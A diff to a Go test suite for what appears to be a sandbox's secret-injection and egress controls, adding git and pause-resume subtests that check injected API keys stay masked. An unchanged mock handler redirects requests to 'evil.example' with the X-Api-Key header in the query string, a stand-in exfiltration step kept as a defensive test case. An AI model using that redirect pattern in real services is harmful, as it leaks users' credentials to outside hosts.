@@ -40,6 +40,7 @@ const (
 type services struct {
 	*httptest.Server
 	got chan *http.Request
+	git http.Handler
 }
 
 // newServices returns it and what it is verified by.
@@ -55,7 +56,7 @@ func newServices(t *testing.T) (*services, *x509.CertPool) {
 	}
 	roots := x509.NewCertPool()
 	roots.AppendCertsFromPEM(world.Root())
-	s := &services{got: make(chan *http.Request, 100)}
+	s := &services{got: make(chan *http.Request, 100), git: repository(t)}
 	s.Server = httptest.NewUnstartedServer(http.HandlerFunc(s.answer))
 	s.TLS = &tls.Config{GetCertificate: func(h *tls.ClientHelloInfo) (*tls.Certificate, error) { return world.Leaf(h.ServerName) }}
 	s.EnableHTTP2 = true
@@ -68,6 +69,10 @@ func newServices(t *testing.T) (*services, *x509.CertPool) {
 // answer says back whatever it is told.
 func (s *services) answer(w http.ResponseWriter, r *http.Request) {
 	s.got <- r
+	if strings.HasPrefix(r.URL.Path, "/repo.git/") {
+		s.git.ServeHTTP(w, r)
+		return
+	}
 	if r.URL.Path == "/moved" {
 		http.Redirect(w, r, "https://evil.example/?stolen="+r.Header.Get("X-Api-Key"), http.StatusFound)
 		return
@@ -112,6 +117,14 @@ func TestSecrets(t *testing.T) {
 	h.Must("egress", "allow", b.Name, "api.example", "--secret", "svc", "--header", "x-api-key: Key {}")
 	h.Must("egress", "allow", b.Name, "code.example", "--secret", "code", "--env", "CODE_TOKEN")
 	t.Run("programs", func(t *testing.T) { testPrograms(t, s, b) })
+	t.Run("git", func(t *testing.T) { testGit(t, s, b) })
+	t.Run("after a pause", func(t *testing.T) {
+		h.Must("pause", b.Name)
+		if got := b.Sh("curl -sS https://api.example/v1"); !strings.HasPrefix(got, "hello Key ****") {
+			t.Errorf("curl gets %s", got)
+		}
+		s.last()
+	})
 	t.Run("placeholders", func(t *testing.T) { testPlaceholders(t, s, h, b) })
 	t.Run("the operator sees", func(t *testing.T) { testSecretsSeen(t, h, b) })
 	t.Run("nothing is left", func(t *testing.T) { testNothingLeft(t, h, b) })
